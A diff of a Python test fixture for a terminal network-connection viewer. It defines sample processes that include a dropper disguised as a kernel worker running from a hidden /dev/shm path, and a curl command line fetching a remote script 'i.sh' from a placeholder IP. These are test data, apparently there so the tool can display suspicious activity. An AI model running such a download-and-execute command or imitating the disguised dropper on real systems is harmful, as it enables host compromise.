@@ -4,7 +4,7 @@ from __future__ import annotations
 
 from tcpview_tui.model.connection import Connection, State
 from tcpview_tui.model.process import Process
-from tests.fakes import connection, listener
+from tests.fakes import EPOCH, connection, listener
 
 SSHD = Process(1021, 10.0, "sshd", "root", "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener]", "ssh.service")
 SESSION = Process(20514, 500.0, "sshd", "root", "/usr/sbin/sshd", "sshd: alice [priv]", "session-12.scope")
@@ -13,7 +13,7 @@ POSTGRES = Process(940, 12.0, "postgres", "postgres", "/usr/lib/postgresql/15/bi
 APP = Process(2210, 40.0, "gunicorn", "shop", "/srv/shop/bin/python3", "gunicorn: worker [shop.wsgi]", "shop.service")
 REDIS = Process(955, 13.0, "redis-server", "redis", "/usr/bin/redis-server", "redis-server", "docker:4f1c2d9ab037")
 NTP = Process(611, 9.0, "chronyd", "_chrony", "/usr/sbin/chronyd", "/usr/sbin/chronyd -F 1", "chrony.service")
-DROPPER = Process(31337, 880.0, "kworker/u8:2", "www-data", "/dev/shm/.x/upd", "[kworker/u8:2]", "nginx.service")
+DROPPER = Process(31337, EPOCH + 231, "kworker/u8:2", "www-data", "/dev/shm/.x/upd", "[kworker/u8:2]", "nginx.service")
 CURL = Process(31290, 878.0, "curl", "alice", "/usr/bin/curl", "curl https://203.0.113.80/i.sh", "session-12.scope")
 
 E = State.ESTABLISHED
